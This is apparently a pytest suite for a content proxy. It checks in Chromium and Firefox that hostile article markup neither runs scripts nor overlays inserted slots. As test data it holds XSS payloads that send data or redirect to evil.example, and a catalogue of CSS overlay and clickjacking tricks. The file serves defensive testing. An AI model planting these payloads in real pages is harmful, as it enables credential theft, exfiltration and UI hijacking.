"""What hostile articles try in real browsers under our headers: nothing runs, nothing is covered.

`ops/bench attacks` does the same with every vector and every page of the corpus.
"""

import gzip
from collections.abc import Sequence
from itertools import product
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Browser

from proxy.page import Page
from tests.browser import hostile
from tests.browser.firefox import Firefox
from tests.vectors import every

pytestmark = pytest.mark.asyncio(loop_scope="session")

# How many vectors are in one article.
TOGETHER = 60
# Pages of the corpus whose own layers once covered a slot.
LAYERED = ("078-yahoo-com", "100-medium-com", "108-cnbc-com", "066-qq-com")


def articles(corpus: Path, part: slice) -> list[str]:
    vectors = every(corpus)
    several = ["</div><div>".join(vectors[n :: len(vectors) // TOGETHER]) for n in range(99)]
    return [hostile.article(each) for each in several[part]]


@pytest_asyncio.fixture(loop_scope="session")
async def chromium_eyes(browser: Browser):
    eyes = await hostile.ChromiumEyes.of(browser)
    yield eyes
    await eyes.close()


@pytest_asyncio.fixture(loop_scope="session")
async def firefox_eyes(fox: Firefox):
    eyes = await hostile.FirefoxEyes.of(fox)
    yield eyes
    await eyes.close()


async def findings(
    eyes: hostile.Eyes, pages: Sequence[str], origins: Sequence[hostile.Origins]
) -> list[str]:
    found = []
    async with hostile.stage() as stage:
        for markup in pages:
            page = hostile.compiled(markup)
            assert page
            for setting in origins:
                found += await eyes.watch(stage.put(page, setting))
        return found + stage.asked


@pytest.mark.parametrize("origins", ["two", "one", "none"])
async def test_vectors_do_nothing_in_chromium(corpus, chromium_eyes, origins) -> None:
    part = {"two": slice(0, 5), "one": slice(5, 9), "none": slice(9, 14)}[origins]
    assert await findings(chromium_eyes, articles(corpus, part), [origins]) == []


async def test_vectors_do_nothing_in_firefox(corpus, firefox_eyes) -> None:
    assert await findings(firefox_eyes, articles(corpus, slice(14, 18)), ["two"]) == []
    assert await findings(firefox_eyes, articles(corpus, slice(18, 22)), ["none"]) == []


RUNS = "<img src=x onerror=alert(1)><form action=//evil.example><input type=password></form>"
SENDS = "<script>navigator.sendBeacon('//evil.example/x');location='//evil.example'</script>"


@pytest.mark.parametrize("vector", [RUNS, SENDS])
async def test_the_eyes_see_what_an_untouched_vector_does(
    chromium_eyes, firefox_eyes, vector: str
) -> None:
    page = hostile.compiled(hostile.article(""))
    assert page
    raw = Page(page.mode, "", page.article, page.card, (vector.encode(), b""), ("head",))
    async with hostile.stage() as stage:
        # "two": stopped by the policy, and seen.
        for eyes, origins in product((chromium_eyes, firefox_eyes), ("none", "two")):
            found, tries = [], 0
            # On a busy machine a tab may be closed before its vector got to anything.
            while not found and tries < 3:
                found, tries = await eyes.watch(stage.put(raw, origins)), tries + 1
            assert found


COVERS = (
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">x</div>',
    '<div style="pos\\69tion:f\\69xed;inset:0;z-index:9e99">x</div>',
    '<div style="--p:fixed;position:var(--p);inset:0;z-index:calc(2147483647)">x</div>',
    '<div style="position:absolute;inset:0;width:100vw;height:9000px;z-index:2147483647">x</div>',
    '<p style="margin-top:-2000px;height:4000px;position:relative;z-index:9999999999">x</p>',
    '<p style="transform:translateY(-600px);height:1200px;background:#fff">x</p>',
    '<p style="float:left;width:100%;height:900px;margin:-400px 0">x</p>',
    "<style>*{position:sticky!important;top:0;z-index:2147483647}</style>",
    "<style>html{scroll-snap-type:y mandatory}p{min-height:100vh;scroll-snap-align:start}</style>",
    "<style>.entry-content{display:grid;grid-template-rows:repeat(11,auto);grid-auto-rows:0}</style>",
    "<style>.entry-content{transform:rotate(9deg);opacity:.01;z-index:-1;position:relative}"
    "body::after{content:'';position:absolute;inset:0;z-index:5;height:9000px}</style>",
    "<style>@layer a{note-card{display:none!important}}note-card:not(#a#b#c#d#e)"
    "{position:absolute!important;left:-9999px!important}</style>",
    '<svg style="position:absolute;inset:0;width:100%;height:9000px;z-index:99"><path d=""/></svg>',
    '<div style="position:attr(data-p type(*));inset:0;z-index:9" data-p="fixed">x</div>',
    "<style>@function --f(){result:fixed}</style>"
    '<div style="position:--f();inset:0;z-index:9">x</div>',
    '<div style="position:relative;z\\2dindex:2147483647;margin-top:-2000px;height:4000px">x</div>',
)
# Each makes a stacking context of its element, or prevents taps inside it.
LAYERS = (
    "view-transition-name:a",
    "offset-path:path('M0 0L0 0')",
    "transform-style:preserve-3d",
    "-webkit-box-reflect:below",
    "-webkit-mask-box-image:linear-gradient(red,red)",
    "animation:a 9s infinite}@keyframes a{from{opacity:.99}",
    "animation:a 1s forwards}@keyframes a{to{filter:blur(0)}",
    "interactivity:inert",
)
LAID = (
    "<style>body::after{{content:'';position:absolute;inset:0;z-index:5;height:9000px}}"
    ".entry-content{{position:relative;{}}}</style>"
)


@pytest.mark.parametrize(
    ("width", "covers"),
    [(390, COVERS), (390, tuple(map(LAID.format, LAYERS))), (1280, COVERS[::4])],
)
async def test_no_style_of_a_page_stands_before_a_slot(
    browser: Browser, width: int, covers: Sequence[str]
) -> None:
    eyes = await hostile.ChromiumEyes.of(browser, width)
    async with hostile.stage() as stage:
        for cover in covers:
            page = hostile.compiled(hostile.article(cover))
            assert page
            assert await eyes.points(stage.put(page, "two")) == [], cover
    await eyes.close()


# Held for its time against every important rule: a transition wins over them.
HELD = (
    "<style>.entry-content{interactivity:inert;transition:interactivity 9999s allow-discrete}"
    "</style>"
)
# What a browser does when a page's beginning is shown before its slots arrive.
LATE = """async () => {{
    const slots = [...document.querySelectorAll('note-card')].map(at => [new Comment(), at]);
    for (const [room, at] of slots) at.replaceWith(room);
    for (const change of document.getAnimations()) change.finish();
    await new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)));
    for (const [room, at] of slots) room.replaceWith(at);
    return await ({})();
}}""".format(hostile.POINTS.strip().rstrip(";"))


async def test_no_style_from_before_a_slot_arrived_holds_on(browser: Browser) -> None:
    eyes = await hostile.ChromiumEyes.of(browser, 390)
    async with hostile.stage() as stage:
        page = hostile.compiled(hostile.article(HELD))
        assert page
        assert await eyes.look(stage.put(page, "two"), LATE) == []
    await eyes.close()


async def test_no_layer_of_real_pages_stands_before_a_slot(corpus: Path, browser: Browser) -> None:
    eyes = await hostile.ChromiumEyes.of(browser, 390)
    async with hostile.stage() as stage:
        for name in LAYERED:
            raw = gzip.decompress((corpus / "pages" / f"{name}.html.gz").read_bytes())
            page = hostile.compiled(raw)
            assert page
            assert await eyes.points(stage.put(page, "two")) == [], name
    await eyes.close()


FROM_PAGE_TO_PAGE = (
    "<style>@view-transition{navigation:auto}::view-transition{background:#fff}"
    "::view-transition-group(*){animation-duration:9999s}p{view-transition-name:match-element}"
    "</style>"
)


async def test_no_transition_from_page_to_page_stands_before_a_slot(browser: Browser) -> None:
    page = hostile.compiled(hostile.article(FROM_PAGE_TO_PAGE))
    assert page
    async with hostile.stage() as stage, await browser.new_context() as profile:
        first, second = stage.put(page, "two"), stage.put(page, "two")
        tab = await profile.new_page()
        await tab.goto(first)
        await tab.evaluate("url => { location.href = url }", second)
        await tab.wait_for_url(f"{second}*")
        await tab.wait_for_function("document.activeViewTransition?.ready.then(() => true) ?? true")
        assert await tab.evaluate(hostile.POINTS) == []
